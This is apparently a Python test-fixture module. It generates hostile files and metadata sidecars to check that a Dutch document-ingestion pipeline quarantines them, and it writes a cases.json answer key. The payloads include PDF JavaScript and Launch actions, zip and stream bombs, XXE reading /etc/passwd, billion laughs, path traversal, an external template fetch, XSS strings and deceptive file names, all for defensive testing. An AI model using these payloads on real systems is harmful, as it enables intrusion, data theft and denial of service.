"""The hostile cases: each a file (plus sidecar) that must be quarantined with a clear reason."""

from __future__ import annotations

import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pymupdf

SIDECAR = ".meta.json"
BOMB_BYTES = 40 * 1024 * 1024  # what the bombs unpack to: far above what the pipeline allows


@dataclass(frozen=True)
class HostileCase:
    """One hostile input: the file name (= source id), what it is, and the expected reason."""

    name: str
    what: str
    expect: tuple[str, ...]  # lower-case words the quarantine reason must contain (any of)
    build: Callable[[], bytes]
    sidecar: bytes | None = None


# -- PDF building blocks ------------------------------------------------------------------------
def plain_pdf(text: str = "Besluit van het college over de openingstijden.") -> bytes:
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 72), text)
    return doc.tobytes(garbage=0)


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered objects (1 = catalog), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_TEXT = b"BT /F1 12 Tf 72 720 Td (Besluit van het college) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page_pdf(
    catalog_extra: bytes = b"", page_extra: bytes = b"", extra: list[bytes] = ()
) -> bytes:
    """Catalog 1, pages 2, page 3, content 4, font 5, then `extra` objects from 6 on."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            _stream(b"", _TEXT),
            _FONT,
            *extra,
        ]
    )


def javascript_pdf() -> bytes:
    return _page_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('hallo'\\)) >> ")


def launch_pdf() -> bytes:
    return _page_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def embedded_file_pdf() -> bytes:
    doc = pymupdf.open(stream=plain_pdf(), filetype="pdf")
    doc.embfile_add("betaling.exe", b"MZ\x90\x00 niet uitvoeren", filename="betaling.exe")
    return doc.tobytes()


def form_pdf() -> bytes:
    doc = pymupdf.open(stream=plain_pdf(), filetype="pdf")
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "bsn"
    widget.rect = pymupdf.Rect(72, 100, 300, 120)
    widget.field_value = "123456782"
    doc[0].add_widget(widget)
    return doc.tobytes()


def many_pages_pdf(pages: int = 3000) -> bytes:
    """Every page shares one content stream, so the file stays small and quick to write."""
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(pages))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    )
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            _stream(b"", _TEXT),
            _FONT,
            *([page] * pages),
        ]
    )


def huge_image_pdf() -> bytes:
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
        zlib.compress(b"\x00" * 100_000, 9),
    )
    return _page_pdf(
        page_extra=b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im0 6 0 R >> >> ",
        extra=[image],
    )


def stream_bomb_pdf() -> bytes:
    content = _TEXT + b"\n" + b" " * BOMB_BYTES
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(b"/Filter /FlateDecode", zlib.compress(content, 9)),
            _FONT,
        ]
    )


def encrypted_pdf() -> bytes:
    doc = pymupdf.open(stream=plain_pdf(), filetype="pdf")
    return doc.tobytes(
        encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="eigenaar", user_pw="geheim"
    )


def owner_encrypted_pdf() -> bytes:
    doc = pymupdf.open(stream=plain_pdf(), filetype="pdf")
    return doc.tobytes(
        encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="eigenaar", user_pw="", permissions=0
    )


def truncated_pdf() -> bytes:
    data = plain_pdf()
    return data[: len(data) * 2 // 3]


def corrupt_pdf() -> bytes:
    rng = random.Random(9)
    return b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(4000))


# -- DOCX / ZIP building blocks -----------------------------------------------------------------
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document_xml(body: str, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f"<w:document {_W}><w:body>{body}</w:body></w:document>"
    )


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(
    body: str = _paragraph("Besluit van het college."),
    *,
    prolog: str = "",
    main: str = _DOCX_MAIN,
    extra: dict[str, bytes | str] | None = None,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("word/document.xml", _document_xml(body, prolog))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(main=_DOCX_MAIN))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        padding = " " * BOMB_BYTES
        archive.writestr("word/document.xml", _document_xml(_paragraph("Besluit") + padding))
    return buffer.getvalue()


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("bijlage.txt", b"0" * BOMB_BYTES)
    return buffer.getvalue()


def macro_docx() -> bytes:
    return docx(main=_DOCM_MAIN, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB"})


def external_ref_docx() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://198.51.100.7/sjabloon.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return docx(extra={"word/_rels/document.xml.rels": rels})


def tracked_changes_docx() -> bytes:
    body = (
        '<w:p><w:r><w:t xml:space="preserve">Het college besluit </w:t></w:r>'
        '<w:del w:id="1" w:author="J. Jansen" w:date="2024-03-01T10:00:00Z"><w:r>'
        "<w:delText>de subsidie aan Piet de Vries (BSN 123456782) te weigeren</w:delText>"
        '</w:r></w:del><w:ins w:id="2" w:author="J. Jansen" w:date="2024-03-01T10:00:00Z">'
        "<w:r><w:t>de aanvraag aan te houden</w:t></w:r></w:ins></w:p>"
    )
    return docx(body)


def xxe_docx() -> bytes:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return docx(_paragraph("&xxe;"), prolog=prolog)


def billion_laughs_docx() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    return docx(_paragraph("&lol9;"), prolog=f"<!DOCTYPE w:document [{entities}]>")


def traversal_docx() -> bytes:
    return docx(extra={"../../../../tmp/woo-pwned.txt": b"buiten de map"})


def truncated_docx() -> bytes:
    data = docx()
    return data[: len(data) // 2]


XXE_XML = (
    b'<?xml version="1.0"?><!DOCTYPE besluit [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<besluit><titel>&xxe;</titel></besluit>"
)
BILLION_LAUGHS_XML = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    b"]><lolz>&lol4;</lolz>"
)


def _meta(**fields: object) -> bytes:
    return json.dumps(fields).encode()


def _nested_json(depth: int = 100_000) -> bytes:
    return b'{"titel": ' + b"[" * depth + b"]" * depth + b"}"


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


_PDF = plain_pdf
_LONG = "besluit-" + "x" * 230 + ".pdf"

CASES: tuple[HostileCase, ...] = (
    # PDFs: broken, locked, active content, resource exhaustion
    HostileCase("pdf-leeg.pdf", "zero-byte PDF", ("leeg",), _const(b"")),
    HostileCase("pdf-afgekapt.pdf", "truncated PDF", ("beschadigd",), truncated_pdf),
    HostileCase("pdf-corrupt.pdf", "PDF header, random body", ("beschadigd",), corrupt_pdf),
    HostileCase("pdf-wachtwoord.pdf", "encrypted, user password", ("versleuteld",), encrypted_pdf),
    HostileCase(
        "pdf-eigenaar.pdf", "encrypted, owner password only", ("versleuteld",), owner_encrypted_pdf
    ),
    HostileCase("pdf-javascript.pdf", "OpenAction JavaScript", ("javascript",), javascript_pdf),
    HostileCase("pdf-launch.pdf", "Launch action", ("start",), launch_pdf),
    HostileCase("pdf-bijlage.pdf", "embedded executable", ("ingesloten",), embedded_file_pdf),
    HostileCase("pdf-formulier.pdf", "AcroForm with a filled field", ("formulier",), form_pdf),
    HostileCase("pdf-3000-paginas.pdf", "3000 pages", ("pagina",), many_pages_pdf),
    HostileCase("pdf-reuzenafbeelding.pdf", "40000x40000 image", ("afbeelding",), huge_image_pdf),
    HostileCase("pdf-streambom.pdf", "40 MB content stream", ("uitgepakt",), stream_bomb_pdf),
    # Office files and archives
    HostileCase("docx-bom.docx", "DOCX unpacking to 40 MB", ("uitgepakt",), docx_bomb),
    HostileCase(
        "zip-bom.zip", "ZIP unpacking to 40 MB", ("niet ondersteund", "uitgepakt"), zip_bomb
    ),
    HostileCase("docx-macro.docx", "macro-enabled document named .docx", ("macro",), macro_docx),
    HostileCase("docx-extern.docx", "external template reference", ("extern",), external_ref_docx),
    HostileCase(
        "docx-wijzigingen.docx",
        "tracked changes with personal data",
        ("wijzigingen bijhouden",),
        tracked_changes_docx,
    ),
    HostileCase("docx-xxe.docx", "external entity in document.xml", ("dtd",), xxe_docx),
    HostileCase(
        "docx-lachsalvo.docx", "billion laughs in document.xml", ("dtd",), billion_laughs_docx
    ),
    HostileCase("docx-padtraversal.docx", "member path ../../", ("pad",), traversal_docx),
    HostileCase("docx-afgekapt.docx", "truncated DOCX", ("beschadigd",), truncated_docx),
    HostileCase("docx-leeg.docx", "zero-byte DOCX", ("leeg",), _const(b"")),
    # Lying extensions and media types
    HostileCase(
        "html-als.pdf",
        "HTML page named .pdf",
        ("geen pdf",),
        _const(b"<html><script>alert(1)</script></html>"),
    ),
    HostileCase(
        "programma-als.pdf",
        "executable named .pdf",
        ("geen pdf",),
        _const(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
    ),
    HostileCase("pdf-als.docx", "PDF named .docx", ("geen geldig",), plain_pdf),
    HostileCase("pdf-als.txt", "PDF named .txt", ("past niet",), plain_pdf),
    HostileCase(
        "programma.exe",
        "Windows executable",
        ("niet ondersteund",),
        _const(b"MZ\x90\x00" + b"\x00" * 100),
    ),
    HostileCase(
        "metadata-xxe.xml",
        "XML with an external entity",
        ("niet ondersteund", "dtd"),
        _const(XXE_XML),
    ),
    HostileCase(
        "metadata-lachsalvo.xml",
        "XML billion laughs",
        ("niet ondersteund", "dtd"),
        _const(BILLION_LAUGHS_XML),
    ),
    # File names
    HostileCase(
        "besluit\\..\\..\\etc\\passwd.pdf", "path traversal with backslashes", ("pad",), _PDF
    ),
    HostileCase("besluit\x1b[31m.pdf", "terminal escape in the name", ("stuurteken",), _PDF),
    HostileCase("notulen\nvergadering.pdf", "newline in the name", ("stuurteken",), _PDF),
    HostileCase("factuur\u202efdp.exe.pdf", "right-to-left override", ("stuurteken",), _PDF),
    HostileCase(_LONG, "240-character name", ("te lang",), _PDF),
    # Sidecar metadata
    HostileCase(
        "meta-script.pdf",
        "<script> in the title",
        ("html",),
        _PDF,
        _meta(titel="<script>alert('woo')</script>Besluit"),
    ),
    HostileCase(
        "meta-img.pdf",
        "HTML event handler in a field",
        ("html",),
        _PDF,
        _meta(titel="Besluit", kenmerk='<img src=x onerror="alert(1)">'),
    ),
    HostileCase(
        "meta-javascript-url.pdf",
        "javascript: URL",
        ("html",),
        _PDF,
        _meta(titel="Besluit", url="javascript:alert(1)"),
    ),
    HostileCase(
        "meta-datum.pdf",
        "date in Dutch order",
        ("datum",),
        _PDF,
        _meta(titel="Besluit", creatiedatum="31-02-2024"),
    ),
    HostileCase(
        "meta-datum-onmogelijk.pdf",
        "30 February",
        ("datum",),
        _PDF,
        _meta(titel="Besluit", creatiedatum="2024-02-30"),
    ),
    HostileCase(
        "meta-datum-toekomst.pdf",
        "date in year 9999",
        ("datum",),
        _PDF,
        _meta(titel="Besluit", creatiedatum="9999-12-31"),
    ),
    HostileCase(
        "meta-datum-getal.pdf",
        "date as a number",
        ("datum",),
        _PDF,
        _meta(titel="Besluit", creatiedatum=20240101),
    ),
    HostileCase(
        "meta-nul.pdf",
        "NUL and control characters in an identifier",
        ("stuurteken",),
        _PDF,
        _meta(titel="Besluit", identificatie="DOC-\u0000-\u0007"),
    ),
    HostileCase(
        "meta-lange-titel.pdf",
        "100,000-character title",
        ("te lang",),
        _PDF,
        _meta(titel="Besluit " * 12_500),
    ),
    HostileCase(
        "meta-geen-json.pdf", "sidecar that is not JSON", ("json",), _PDF, b"{'titel': Besluit"
    ),
    HostileCase("meta-diep.pdf", "JSON nested 100,000 deep", ("json",), _PDF, _nested_json()),
    HostileCase(
        "meta-titel-type.pdf",
        "title that is an object",
        ("titel",),
        _PDF,
        _meta(titel={"$ne": None}),
    ),
)


def write_corpus(out: Path) -> list[HostileCase]:
    """Write every case (file plus sidecar) into `out` and a `cases.json` answer key."""
    out.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (out / case.name).write_bytes(case.build())
        if case.sidecar is not None:
            (out / (case.name + SIDECAR)).write_bytes(case.sidecar)
    key = [{"name": c.name, "what": c.what, "expect": list(c.expect)} for c in CASES]
    (out / "cases.json").write_text(json.dumps(key, indent=1, ensure_ascii=True), encoding="utf-8")
    return list(CASES)
